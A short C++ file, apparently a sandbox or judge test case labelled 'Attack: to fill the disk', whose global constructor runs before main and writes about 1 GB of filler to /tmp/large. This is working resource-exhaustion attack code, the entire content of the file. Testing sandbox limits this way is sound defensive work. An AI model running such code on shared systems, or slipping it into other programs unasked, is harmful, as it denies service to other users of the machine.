// Attack: to fill the disk, 1 GB at most.
// Remark: opens files
#include <fstream>
#include <string>

#include "unsolved.h"

struct AtStart {
    AtStart() {
        std::ofstream file("/tmp/large");
        for (int i = 0; file && i < 1000; ++i) file << std::string(1 << 20, 'x');
    }
} atStart;
